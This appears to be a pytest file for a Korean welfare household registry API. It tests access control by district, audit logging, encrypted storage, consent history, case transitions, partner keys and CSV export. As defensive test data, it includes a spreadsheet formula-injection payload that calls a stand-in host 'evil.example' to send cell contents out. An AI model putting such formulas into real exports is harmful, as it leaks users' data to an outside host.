"""The registry's API on SQLite and on PostgreSQL: permissions, audit, consent, cases, keys."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from uuid import uuid4
from zoneinfo import ZoneInfo

from sqlalchemy import text
from sqlmodel import Session, select

from anbu_contracts import HouseholdSnapshot, TaskEvent
from anbu_registry.adapters.orm import metadata
from anbu_registry.adapters.repository import Repositories
from anbu_registry.handlers import events
from anbu_runtime.db import Database
from anbu_runtime.outbox import install
from anbu_runtime.uow import UnitOfWork

from .conftest import Registry

DONG_A, DONG_B = "1111051500", "1111053000"  # 청운효자동, 사직동


def staged_snapshots(registry: Registry, household_id: str) -> list[HouseholdSnapshot]:
    """Household snapshots waiting in the registry's outbox (no broker in these tests)."""
    app = registry.client.app
    db: Database = app.state.runtime.db  # type: ignore[attr-defined]
    outbox = install(metadata).outbox
    with Session(db.engine) as session:
        rows = session.execute(
            select(outbox.c.value)
            .where(outbox.c.topic == "registry.household.v1")
            .order_by(outbox.c.id)
        ).all()
    found = [HouseholdSnapshot.model_validate_json(v) for (v,) in rows]
    return [s for s in found if s.household_id == household_id]


def test_an_official_reads_their_own_dong_and_not_another(registry: Registry) -> None:
    ours, theirs = registry.household(DONG_A), registry.household(DONG_B)
    official_a = registry.login("official-515")
    assert registry.client.get(f"/v1/households/{ours}", headers=official_a).status_code == 200
    refused = registry.client.get(f"/v1/households/{theirs}", headers=official_a)
    assert refused.status_code == 403
    assert refused.headers["content-type"] == "application/problem+json"
    people = registry.client.get(
        f"/v1/households/{theirs}/people", headers=official_a, params={"purpose": "curious"}
    )
    assert people.status_code == 403
    listing = registry.client.get(
        "/v1/households", headers=official_a, params={"limit": 500}
    ).json()
    assert listing["items"] and {h["dong_code"] for h in listing["items"]} == {DONG_A}


def test_an_operator_sees_the_districts_they_serve(registry: Registry) -> None:
    household = registry.household(DONG_B)
    hub = registry.login("jongno-hub")
    assert registry.client.get(f"/v1/households/{household}", headers=hub).status_code == 200


def test_a_field_worker_sees_an_address_only_through_an_accepted_task(registry: Registry) -> None:
    household = registry.household(DONG_A)
    carer = registry.login("carer-515")  # worker W-DEMO002
    url = f"/v1/households/{household}/address"
    assert registry.client.get(url, headers=carer, params={"purpose": "visit"}).status_code == 403

    task_id = uuid4()
    runtime = registry.client.app.state.runtime  # type: ignore[attr-defined]
    db: Database = runtime.db
    ctx = registry.client.app.state.registry_context  # type: ignore[attr-defined]

    def task(status: str) -> TaskEvent:
        return TaskEvent(
            occurred_at=datetime.now(UTC),
            source="outreach",
            task_id=task_id,
            household_id=household,
            dong_code=DONG_A,
            task_type="home_visit",  # type: ignore[arg-type]
            team=["life_support_worker"],
            deadline=datetime.now(UTC) + timedelta(hours=8),  # type: ignore[list-item]
            status=status,
            assignees=["W-DEMO002"],
        )  # type: ignore[arg-type]

    def consume(event: TaskEvent) -> None:
        with db.session() as s:
            events.on_task(
                event, UnitOfWork(s, Repositories(s, ctx), runtime.outbox, runtime.clock.now())
            )

    consume(task("accepted"))
    shown = registry.client.get(url, headers=carer, params={"purpose": "day-2 visit"})
    assert shown.status_code == 200
    assert shown.json()["address"] == "서울특별시 종로구 시험로 1"
    with db.session() as s:
        events.on_task(
            task("completed"),
            UnitOfWork(s, Repositories(s, ctx), runtime.outbox, runtime.clock.now()),
        )
    assert registry.client.get(url, headers=carer, params={"purpose": "again"}).status_code == 403

    audit = registry.client.get(
        "/v1/audit", headers=registry.service, params={"subject": household}
    ).json()
    reads = [a for a in audit if a["action"] == "pii.read.address"]
    assert len(reads) == 1
    assert reads[0]["actor"].endswith(":" + carer_user(registry))
    assert reads[0]["purpose"] == f"task {task_id}: day-2 visit"


def carer_user(registry: Registry) -> str:
    me = registry.client.get("/v1/auth/me", headers=registry.login("carer-515")).json()
    return str(me["subject"])


def test_every_read_of_personal_data_is_audited_with_who_and_why(registry: Registry) -> None:
    household = registry.household(DONG_A)
    official = registry.login("official-515")
    people = registry.client.get(
        f"/v1/households/{household}/people",
        headers=official,
        params={"purpose": "call the resident"},
    )
    assert people.status_code == 200
    assert people.json()[0]["phone"] == "010-0000-7777"
    audit = registry.client.get(
        "/v1/audit", headers=registry.service, params={"subject": household}
    ).json()
    [entry] = [a for a in audit if a["action"] == "pii.read.people"]
    assert entry["purpose"] == "call the resident" and entry["actor"].startswith("dong_official:")


def test_no_plaintext_personal_data_is_stored(registry: Registry) -> None:
    household = registry.household(
        DONG_A,
        people=[
            {
                "relation": "resident",
                "name": "박비밀",
                "phone": "010-4321-8765",
                "rrn": "900101-1234567",
            },
        ],
    )
    db: Database = registry.client.app.state.runtime.db  # type: ignore[attr-defined]
    with Session(db.engine) as session:
        dump = json.dumps(
            [
                [str(v) for v in row]
                for table in ("person", "household", "audit_log", "outbox", "consent")
                for row in session.execute(text(f"SELECT * FROM {table}")).all()
            ],
            ensure_ascii=False,
        )
    assert household in dump
    for secret in ("박비밀", "010-4321-8765", "01043218765", "900101", "1234567", "시험로"):
        assert secret not in dump


def test_withdrawing_consent_publishes_the_channel_off_at_once(registry: Registry) -> None:
    household = registry.household(DONG_A)
    official = registry.login("official-515")
    withdrawn = registry.client.post(
        f"/v1/households/{household}/consents",
        headers=official,
        json={"channel": "phone", "given": False, "form": "withdrawal-2026-17"},
    )
    assert withdrawn.status_code == 200, withdrawn.text
    first, latest = staged_snapshots(registry, household)
    assert first.channels[0].consent is True
    assert latest.channels[0].consent is False and latest.revision == first.revision + 1
    history = registry.client.get(f"/v1/households/{household}/consents", headers=official).json()
    assert [h["given"] for h in history] == [True, False]
    assert history[1]["form"] == "withdrawal-2026-17"


def test_the_audit_log_and_consent_history_cannot_be_rewritten(registry: Registry) -> None:
    registry.household(DONG_A)
    db: Database = registry.client.app.state.runtime.db  # type: ignore[attr-defined]
    for statement in ("UPDATE audit_log SET actor = 'someone else'", "DELETE FROM consent"):
        with Session(db.engine) as session:
            try:
                session.execute(text(statement))
                session.commit()
            except Exception as exc:  # the trigger refuses it
                assert "append-only" in str(exc)
            else:
                raise AssertionError(f"{statement} was allowed")


def test_case_transitions_refuse_illegal_moves_with_the_allowed_ones(registry: Registry) -> None:
    household = registry.household(DONG_A)
    official = registry.login("official-515")
    case_id = registry.client.post(
        "/v1/cases", headers=official, json={"household_id": household}
    ).json()["id"]

    def move(to: str, **extra: str) -> int:
        return registry.client.post(
            f"/v1/cases/{case_id}/transitions", headers=official, json={"to": to, **extra}
        ).status_code

    skipped = registry.client.post(
        f"/v1/cases/{case_id}/transitions",
        headers=official,
        json={"to": "opened", "level": "ordinary"},
    )
    assert skipped.status_code == 409
    assert "allowed: closed, counselling" in skipped.json()["detail"]
    assert move("counselling") == 200
    assert move("crisis_confirmed") == 200
    assert move("opened") == 409  # a level is required
    assert move("opened", level="high_difficulty") == 200
    assessed = registry.client.post(
        f"/v1/cases/{case_id}/assessments",
        headers=official,
        json={"domain": "housing", "severity": 3, "summary": "rent arrears 4 months"},
    )
    assert assessed.status_code == 204
    detail = registry.client.get(f"/v1/cases/{case_id}", headers=official).json()
    assert detail["state"] == "opened" and detail["level"] == "high_difficulty"
    assert [e["kind"] for e in detail["history"]] == ["transition"] * 4 + ["assessment"]
    duplicate = registry.client.post(
        "/v1/cases", headers=official, json={"household_id": household}
    )
    assert duplicate.status_code == 409


def test_partner_keys_are_shown_once_verified_and_revoked(registry: Registry) -> None:
    admin = registry.login("admin")
    issued = registry.client.post(
        "/v1/partners/kepco-demo/keys", headers=admin, json={"label": "batch"}
    )
    assert issued.status_code == 201
    key = issued.json()["api_key"]
    verify = registry.client.post(
        "/internal/v1/partner-keys/verify", headers=registry.service, json={"api_key": key}
    )
    assert verify.status_code == 200 and verify.json()["partner_id"] == "kepco-demo"
    assert "arrears" in verify.json()["allowed_kinds"]
    listed = registry.client.get("/v1/partners/kepco-demo/keys", headers=admin).json()
    assert key not in json.dumps(listed)
    assert (
        registry.client.delete(
            f"/v1/partner-keys/{issued.json()['key_id']}", headers=admin
        ).status_code
        == 204
    )
    again = registry.client.post(
        "/internal/v1/partner-keys/verify", headers=registry.service, json={"api_key": key}
    )
    assert again.status_code == 401
    official = registry.login("official-515")
    assert (
        registry.client.post("/v1/partners/kepco-demo/keys", headers=official, json={}).status_code
        == 403
    )


def test_logins_refuse_wrong_passwords_and_forged_tokens(registry: Registry) -> None:
    wrong = registry.client.post(
        "/v1/auth/login", json={"username": "admin", "password": "guess-guess"}
    )
    assert wrong.status_code == 401
    forged = {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl"}
    assert registry.client.get("/v1/auth/me", headers=forged).status_code == 401
    assert registry.client.get("/v1/households").status_code == 401


def test_the_consultation_log_exports_csv_for_the_national_system(registry: Registry) -> None:
    household = registry.household(DONG_A)
    official = registry.login("official-515")
    entry = registry.client.post(
        f"/v1/households/{household}/consultations",
        headers=official,
        json={
            "kind": "contact",
            "channel": "phone",
            "result": "ok",
            "summary": "안부 확인 완료",
            "note": "김시험 010-0000-7777 통화",
        },
    )
    assert entry.status_code == 201
    # The export's dates are days in Korea (the national system's), not UTC days.
    today = datetime.now(ZoneInfo("Asia/Seoul")).date().isoformat()
    export = registry.client.get(
        "/v1/consultations/export.csv",
        headers=official,
        params={"dong_code": DONG_A, "start": today, "end": today},
    )
    assert export.status_code == 200
    lines = export.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("상담일자,상담시각,가구번호")
    assert any(household in line and "안부 확인 완료" in line for line in lines[1:])
    assert "010-0000-7777" not in export.text  # the sealed note stays out of the export
    other = registry.client.get(
        "/v1/consultations/export.csv",
        headers=official,
        params={"dong_code": DONG_B, "start": today, "end": today},
    )
    assert other.status_code == 403


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]


def test_the_export_neutralises_formulas_typed_into_the_log(registry: Registry) -> None:
    household = registry.household(DONG_A)
    official = registry.login("official-515")
    for summary in FORMULAS:
        entry = registry.client.post(
            f"/v1/households/{household}/consultations",
            headers=official,
            json={"kind": "note", "channel": "other", "result": "=1+1", "summary": summary},
        )
        assert entry.status_code == 201, entry.text
    today = datetime.now(ZoneInfo("Asia/Seoul")).date().isoformat()
    for encoding, codec in (("utf-8", "utf-8-sig"), ("euc-kr", "euc-kr")):
        export = registry.client.get(
            "/v1/consultations/export.csv",
            headers=official,
            params={"dong_code": DONG_A, "start": today, "end": today, "encoding": encoding},
        )
        assert export.status_code == 200
        rows = list(csv.reader(io.StringIO(export.content.decode(codec), newline="")))
        ours = [row for row in rows[1:] if row[2] == household]
        assert sorted(row[7] for row in ours) == sorted("'" + f for f in FORMULAS)
        assert {row[6] for row in ours} == {"'=1+1"}
        # What the program writes itself (dates, times, ids) is left as it is.
        assert all(row[0] == today and row[2].startswith("HH-") for row in ours)


def test_a_consultation_with_an_overlong_case_id_is_refused_not_a_server_error(
    registry: Registry,
) -> None:
    household = registry.household(DONG_A)
    response = registry.client.post(
        f"/v1/households/{household}/consultations",
        headers=registry.login("official-515"),
        json={"kind": "note", "channel": "other", "summary": "x", "case_id": "C-" + "X" * 40},
    )
    assert response.status_code == 422
